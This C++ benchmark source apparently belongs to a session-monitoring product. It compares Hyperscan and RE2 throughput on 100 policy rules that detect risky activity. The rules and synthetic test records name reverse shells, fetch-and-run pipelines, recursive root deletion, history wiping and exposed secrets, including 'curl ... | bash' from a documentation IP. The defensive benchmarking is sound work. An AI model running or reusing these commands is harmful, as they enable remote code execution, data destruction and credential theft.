// Policy matching throughput: generated shell, screen and window-title records against 100 content
// policy rules, through Audex's Hyperscan matcher and, in the same run, through one RE2 search per
// rule pattern (the baseline). Usage: audex-bench-policies [RECORDS [ROUNDS]]. Prints a Markdown
// table; scripts/bench-policies pins it to one core.
#include "ingest/policy_matcher.hpp"

#include <re2/re2.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <random>
#include <string>
#include <vector>

namespace {

using namespace audex;
using ingest::event_type;
using ingest::policy_rule;

std::vector<policy_rule> make_rules() {
    struct spec {
        event_type type;
        std::vector<std::string> match, ignore;
    };
    using enum event_type;
    std::vector<spec> specs = {
        {command, {R"(\brm\s+-[a-zA-Z]*[rR][a-zA-Z]*\s+/(\s|$))"}, {}},
        {command, {R"(\bchmod\s+(-R\s+)?0?777\b)"}, {}},
        {command, {R"(\bdd\s+if=\S+\s+of=/dev/(sd|nvme|xvd))"}, {}},
        {command, {R"(\bmkfs(\.\w+)?\s)"}, {}},
        {command, {R"(\biptables\s+(-F|--flush))", R"(\bufw\s+disable)"}, {}},
        {command, {R"(\buser(add|del|mod)\b)"}, {R"(--help)"}},
        {command, {R"(\bpasswd\b)"}, {R"(cat /etc/passwd)"}},
        {command, {R"(\bvisudo\b)", R"(/etc/sudoers)"}, {}},
        {command, {R"(\bcrontab\s+-[er])"}, {}},
        {command, {R"(\bsystemctl\s+(stop|disable|mask)\s+(auditd|rsyslog|sshd))"}, {}},
        {command, {R"(\bkill\s+-9\s+1\b)", R"(\bkillall\b)"}, {}},
        {command, {R"(\b(shutdown|reboot|halt|poweroff)\b)"}, {R"(--help)"}},
        {command, {R"(\b(nc|ncat|netcat)\s+(-\w+\s+)*-l)"}, {}},
        {command, {R"(\bsocat\b.*\bexec:)"}, {}},
        {command, {R"((wget|curl)\s.*\|\s*(ba)?sh\b)"}, {}},
        {command, {R"(\bcurl\s+(-\w+\s+)*https?://\d+\.\d+\.\d+\.\d+)"}, {}},
        {command, {R"(\bscp\s.*@)", R"(\brsync\s.*@)"}, {R"(backup\.corp\.example)"}},
        {command, {R"(\btcpdump\b)"}, {}},
        {command, {R"(\bnmap\s)"}, {}},
        {command, {R"(\bssh-keygen\b)", R"(authorized_keys)"}, {}},
        {command, {R"(\bhistory\s+-c\b)", R"(unset\s+HISTFILE)", R"(HISTSIZE=0)"}, {}},
        {command, {R"(\bsudo\s+(su|-i|-s)\b)"}, {}},
        {command, {R"(\bsu\s+(-\s+)?root\b)"}, {}},
        {command, {R"(\bexport\s+\w*(PASS|SECRET|TOKEN)\w*=)"}, {}},
        {command, {R"(\bmysql\b.*\s-p\S+)", R"(\bpsql\b.*password=)"}, {}},
        {command, {R"(\bbase64\s+-d\b.*\|\s*(ba)?sh)"}, {}},
        {command, {R"(\bchattr\s+[-+]i\b)"}, {}},
        {command, {R"(\binsmod\b|\bmodprobe\b)"}, {}},
        {command, {R"(/dev/tcp/)"}, {}},
        {command, {R"(\bpython[23]?\s+-c\s.*socket)"}, {}},
        {screen_content, {R"(/etc/(shadow|gshadow))"}, {}},
        {screen_content, {R"(-----BEGIN (RSA |OPENSSH |EC )?PRIVATE KEY-----)"}, {}},
        {screen_content, {R"((?i)password\s*[:=]\s*\S+)"}, {R"((?i)password:\s*$)"}},
        {screen_content, {R"(\bAKIA[0-9A-Z]{16}\b)"}, {}},
        {screen_content, {R"((?i)\bdrop\s+(table|database)\b)"}, {}},
        {screen_content, {R"((?i)\bselect\b.*\bfrom\s+(users|accounts|customers)\b)"}, {}},
        {screen_content, {R"(\b\d{3}-\d{2}-\d{4}\b)"}, {}},
        {screen_content, {R"(\broot:[^:\s]*:\d+:\d+:)"}, {}},
        {screen_content, {R"(Permission denied \(publickey)"}, {}},
        {screen_content, {R"(segfault at [0-9a-f]+)"}, {}},
        {screen_content, {R"(\bKernel panic\b)"}, {}},
        {screen_content, {R"((?i)\bapi[_-]?key\s*[:=])"}, {}},
        {screen_content, {R"(ghp_[A-Za-z0-9]{36})"}, {}},
        {screen_content, {R"(xox[baprs]-[0-9A-Za-z-]{10,})"}, {}},
        {screen_content, {R"(^uid=0\(root\))"}, {}},
        {screen_content, {R"(\bFailed password for (invalid user )?\w+)"}, {}},
        {screen_content, {R"(Accepted (password|publickey) for root)"}, {}},
        {screen_content, {R"(\bsudo:\s+\w+ : .*COMMAND=)"}, {}},
        {screen_content, {R"(\bcore dumped\b)"}, {}},
        {screen_content, {R"((?i)confidential|(?i)top secret)"}, {}},
        {screen_creditcard, {}, {R"(4242 ?4242 ?4242 ?4242)"}},
        {screen_creditcard, {R"((?i)card|(?i)visa|(?i)amex)"}, {}},
        {screen_windowtitle, {R"((?i)^administrator:)"}, {}},
        {screen_windowtitle, {R"((?i)registry editor)"}, {}},
        {screen_windowtitle, {R"((?i)active directory users)"}, {}},
        {screen_windowtitle, {R"((?i)sql server management studio)"}, {}},
        {screen_windowtitle, {R"((?i)group policy management)"}, {}},
        {screen_windowtitle, {R"((?i)\bmmc\.exe\b)"}, {}},
        {screen_windowtitle, {R"((?i)powershell)"}, {R"((?i)ise)"}},
        {screen_windowtitle, {R"((?i)keepass|(?i)1password|(?i)lastpass)"}, {}},
    };
    // The rest: the watch lists an appliance typically holds, of hosts and accounts.
    for (int i = 0; specs.size() < 100; ++i) {
        auto n = std::to_string(i);
        if (i % 2 == 0)
            specs.push_back({command, {R"(\bssh\s+(\w+@)?prod-db-)" + n + R"(\b)"}, {}});
        else
            specs.push_back({screen_content, {R"(\bsvc_payroll_)" + n + R"(\b)"}, {}});
    }
    std::vector<policy_rule> rules;
    for (std::size_t i = 0; i < specs.size(); ++i) {
        policy_rule r;
        r.name = "rule-" + std::to_string(i);
        r.type = specs[i].type;
        r.match = specs[i].match;
        r.ignore = specs[i].ignore;
        r.where = "rules." + std::to_string(i);
        rules.push_back(std::move(r));
    }
    return rules;
}

// Mostly routine work, with now and then something a policy is there to catch.
std::vector<index::content_record> make_records(std::size_t count) {
    std::mt19937_64 rng(42);
    auto pick = [&](const std::vector<std::string>& v) -> const std::string& {
        return v[rng() % v.size()];
    };
    auto chance = [&](unsigned percent) { return rng() % 1000 < percent * 10; };
    const std::vector<std::string> commands = {"ls -la /var/log",
                                               "cd /etc/nginx/sites-enabled",
                                               "vim nginx.conf",
                                               "systemctl restart nginx",
                                               "tail -f /var/log/syslog",
                                               "grep -r ERROR /var/log/app/",
                                               "ps aux | grep java",
                                               "df -h",
                                               "du -sh * | sort -h",
                                               "cat /etc/passwd",
                                               "git pull --rebase",
                                               "docker ps -a",
                                               "kubectl get pods -n prod",
                                               "top -b -n 1",
                                               "journalctl -u sshd --since today",
                                               "ssh deploy@prod-db-7",
                                               "scp app.tar.gz ops@backup.corp.example:/srv",
                                               "curl -s http://localhost:8080/health",
                                               "rm -rf /tmp/build-1234",
                                               "chmod 640 /etc/app.conf",
                                               "history | tail",
                                               "export PATH=$PATH:/opt/bin",
                                               "free -m",
                                               "uptime",
                                               "netstat -tlnp",
                                               "ip addr show",
                                               "crontab -l",
                                               "less /var/log/auth.log",
                                               "make -j8 && make install",
                                               "python3 manage.py migrate"};
    const std::vector<std::string> risky_commands = {"sudo su -",
                                                     "rm -rf / --no-preserve-root",
                                                     "chmod -R 777 /var/www",
                                                     "curl -s http://203.0.113.9/x.sh | bash",
                                                     "mysql -u root -pS3cret app_db",
                                                     "history -c",
                                                     "nc -lvp 4444",
                                                     "ssh admin@prod-db-12",
                                                     "userdel -r alice",
                                                     "iptables -F",
                                                     "cat /etc/shadow",
                                                     "export AWS_SECRET_ACCESS_KEY=abc"};
    const std::vector<std::string> screen_lines = {
        "drwxr-xr-x  2 root root  4096 Mar  1 09:12 nginx",
        "-rw-r--r--  1 www  www  18273 Mar  2 17:45 access.log",
        "root      1432  0.3  1.2 812344 48212 ?  Ssl  08:01   0:42 /usr/bin/java -jar app.jar",
        "Mar  3 10:14:02 web1 sshd[2211]: Accepted publickey for deploy from 10.2.3.4 port 51234",
        "Mar  3 10:15:47 web1 CRON[3011]: (root) CMD (run-parts /etc/cron.hourly)",
        "Filesystem      Size  Used Avail Use% Mounted on",
        "/dev/sda1        50G   31G   17G  65% /",
        "tcp   0  0 0.0.0.0:22      0.0.0.0:*   LISTEN   812/sshd",
        "2024-03-03 10:16:55,123 INFO  [main] o.a.c.StandardService - Starting service",
        "Order 1234 5678 9012 3456 shipped to customer 88123",
        "Mem:   16318  9121  1203  412  5993  6410",
        "Password:",
        "Last login: Sun Mar  3 09:58:11 2024 from 10.9.8.7",
        "bash: foo: command not found",
        "HTTP/1.1 200 OK",
        "Content-Type: text/html",
        "SELECT id, name FROM products WHERE price > 10;",
        "  PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND"};
    const std::vector<std::string> risky_lines = {
        "Card: 4111 1111 1111 1111   Exp: 12/27",
        "password = hunter2",
        "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
        "uid=0(root) gid=0(root) groups=0(root)",
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        "user=svc_payroll_13 session opened",
        "Mar  3 10:20:11 web1 sshd[3321]: Failed password for invalid user oracle"};
    const std::vector<std::string> titles = {"PuTTY - web1",
                                             "Remote Desktop Connection - srv-dc1",
                                             "Event Viewer",
                                             "Windows PowerShell ISE",
                                             "Notepad - hosts",
                                             "Task Manager",
                                             "Server Manager",
                                             "Services",
                                             "File Explorer - C:\\inetpub",
                                             "Google Chrome - Grafana"};
    const std::vector<std::string> risky_titles = {
        "Administrator: Command Prompt", "Registry Editor", "Active Directory Users and Computers",
        "Microsoft SQL Server Management Studio", "KeePass - vault.kdbx"};
    const std::vector<std::string> hosts = {"web1", "web2", "db1", "app3", "bastion"};
    std::vector<index::content_record> out;
    out.reserve(count);
    for (std::size_t i = 0; i < count; ++i) {
        index::content_record r;
        r.session = 1 + i / 1000;
        r.start = std::int64_t(1'700'000'000'000'000) + std::int64_t(i) * 1000;
        r.record_id = {{"begin", std::int64_t(i)}};
        auto roll = rng() % 10;
        if (roll < 5) {
            r.type = "command";
            r.text = "ops@" + pick(hosts) + ":~$ " + pick(chance(3) ? risky_commands : commands);
        } else if (roll < 9) {
            r.type = "screen";
            for (int l = 0, n = 4 + int(rng() % 10); l < n; ++l)
                r.text += pick(chance(1) ? risky_lines : screen_lines) + "\n";
        } else {
            r.type = "window_title";
            r.text = pick(chance(5) ? risky_titles : titles);
        }
        out.push_back(std::move(r));
    }
    return out;
}

// The baseline: every pattern of every rule of the record's type searched on its own.
class re2_matcher {
  public:
    explicit re2_matcher(const std::vector<policy_rule>& rules) : rules_(rules) {
        for (auto& r : rules) {
            compiled c;
            // (?m): ^ and $ at every line, as the Hyperscan matcher has them.
            for (auto& p : r.match)
                c.match.push_back(std::make_unique<re2::RE2>("(?m)" + p));
            for (auto& p : r.ignore)
                c.ignore.push_back(std::make_unique<re2::RE2>("(?m)" + p));
            compiled_.push_back(std::move(c));
        }
    }

    std::size_t match(const std::vector<index::content_record>& records) const {
        std::size_t alerts = 0;
        for (auto& rec : records) {
            for (std::size_t i = 0; i < rules_.size(); ++i) {
                auto& rule = rules_[i];
                auto kind = rule.type == event_type::command              ? "command"
                            : rule.type == event_type::screen_windowtitle ? "window_title"
                                                                          : "screen";
                if (rec.type != kind) continue;
                auto hit = [&](const std::unique_ptr<re2::RE2>& re) {
                    return re2::RE2::PartialMatch(rec.text, *re);
                };
                auto& c = compiled_[i];
                bool matched =
                    rule.match.empty() || std::any_of(c.match.begin(), c.match.end(), hit);
                if (!matched || std::any_of(c.ignore.begin(), c.ignore.end(), hit)) continue;
                if (rule.type == event_type::screen_creditcard &&
                    !ingest::has_card_number(rec.text))
                    continue;
                ++alerts;
            }
        }
        return alerts;
    }

  private:
    struct compiled {
        std::vector<std::unique_ptr<re2::RE2>> match, ignore;
    };
    const std::vector<policy_rule>& rules_;
    std::vector<compiled> compiled_;
};

struct measurement {
    double seconds;
    std::size_t alerts;
};

// Matches the records in ingest-sized batches, the way the ingest route hands them over.
template <class Match>
measurement run(const std::vector<index::content_record>& records, Match&& match) {
    constexpr std::size_t batch = 500;
    std::vector<std::vector<index::content_record>> batches;
    for (std::size_t i = 0; i < records.size(); i += batch)
        batches.emplace_back(records.begin() + std::ptrdiff_t(i),
                             records.begin() + std::ptrdiff_t(std::min(records.size(), i + batch)));
    auto start = std::chrono::steady_clock::now();
    std::size_t alerts = 0;
    for (auto& b : batches)
        alerts += match(b);
    std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
    return {took.count(), alerts};
}

measurement median(std::vector<measurement> rounds) {
    std::sort(rounds.begin(), rounds.end(), [](auto& a, auto& b) { return a.seconds < b.seconds; });
    return rounds[rounds.size() / 2];
}

}  // namespace

int main(int argc, char** argv) {
    std::size_t count = argc > 1 ? std::strtoull(argv[1], nullptr, 10) : 200000;
    int rounds = argc > 2 ? std::max(1, std::atoi(argv[2])) : 3;
    auto rules = make_rules();
    auto records = make_records(count);
    std::size_t bytes = 0;
    for (auto& r : records)
        bytes += r.text.size();

    auto compile_start = std::chrono::steady_clock::now();
    auto hs = ingest::policy_matcher::compile(rules);
    std::chrono::duration<double> compile_took = std::chrono::steady_clock::now() - compile_start;
    if (!hs) {
        std::fprintf(stderr, "the rules do not compile: %s\n", hs.error().message.c_str());
        return 1;
    }
    re2_matcher baseline(rules);

    // What a policy write costs where: the write transaction only checks the limits and parses
    // each pattern (check_rules), the compile comes after the commit, and a start loads the
    // stored matcher. Also for a policy within the limits that Hyperscan is slow to compile.
    auto seconds_of = [](auto&& work) {
        auto start = std::chrono::steady_clock::now();
        work();
        return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    };
    std::vector<policy_rule> heavy(1);
    heavy[0].name = "hosts";
    heavy[0].where = "rules.0";
    for (int i = 0; i < 30; ++i)
        heavy[0].match.push_back("host" + std::to_string(i) + "[a-z]{0,40}x.{0,60}y");
    bool checked = true;
    double check_took = seconds_of([&] { checked = ingest::check_rules(rules).has_value(); });
    double heavy_check_took =
        seconds_of([&] { checked = checked && ingest::check_rules(heavy).has_value(); });
    double heavy_compile_took = seconds_of(
        [&] { checked = checked && ingest::policy_matcher::compile(heavy).has_value(); });
    std::string serialized;
    double serialize_took = seconds_of([&] { serialized = (*hs)->serialize(); });
    std::shared_ptr<const ingest::policy_matcher> loaded;
    double load_took =
        seconds_of([&] { loaded = ingest::policy_matcher::load(rules, serialized); });
    if (!checked || !loaded) {
        std::fprintf(stderr, "the rules do not check, compile or load\n");
        return 1;
    }

    // Interleaved rounds, so that both matchers see the same machine; the medians are reported.
    std::vector<measurement> hyperscan_rounds, re2_rounds;
    for (int round = 0; round < rounds; ++round) {
        hyperscan_rounds.push_back(run(records, [&](auto& b) { return (*hs)->match(b).size(); }));
        re2_rounds.push_back(run(records, [&](auto& b) { return baseline.match(b); }));
        if (hyperscan_rounds.back().alerts != re2_rounds.back().alerts) {
            std::fprintf(stderr, "the matchers disagree: %zu alerts against %zu\n",
                         hyperscan_rounds.back().alerts, re2_rounds.back().alerts);
            return 1;
        }
    }
    auto hyperscan = median(hyperscan_rounds), re2 = median(re2_rounds);

    auto rate = [&](const measurement& m) { return double(records.size()) / m.seconds; };
    std::printf(
        "%zu records (%.1f MB, %.0f bytes on average), %zu rules, %zu alerts; "
        "Hyperscan compile %.0f ms; medians of %d interleaved rounds\n\n",
        records.size(), double(bytes) / 1e6, double(bytes) / double(records.size()), rules.size(),
        hyperscan.alerts, compile_took.count() * 1e3, rounds);
    std::printf(
        "Policy writes: checking the %zu rules in the write transaction %.1f ms; the stored "
        "matcher (%.0f kB) serialised in %.1f ms and loaded at start in %.1f ms instead of "
        "compiled. A policy of 30 bounded-repeat patterns (within the limits): checked in %.1f "
        "ms, compiled after the commit in %.0f ms.\n\n",
        rules.size(), check_took * 1e3, double(serialized.size()) / 1e3, serialize_took * 1e3,
        load_took * 1e3, heavy_check_took * 1e3, heavy_compile_took * 1e3);
    std::printf("| matcher | seconds | records/s | MB/s | vs. RE2 |\n");
    std::printf("|---|---:|---:|---:|---:|\n");
    for (auto& [name, m] : {std::pair{"Hyperscan, one database per record type", hyperscan},
                            std::pair{"RE2, one search per pattern (baseline)", re2}})
        std::printf("| %s | %.3f | %.0f | %.1f | %.1fx |\n", name, m.seconds, rate(m),
                    double(bytes) / m.seconds / 1e6, rate(m) / rate(re2));
    return 0;
}
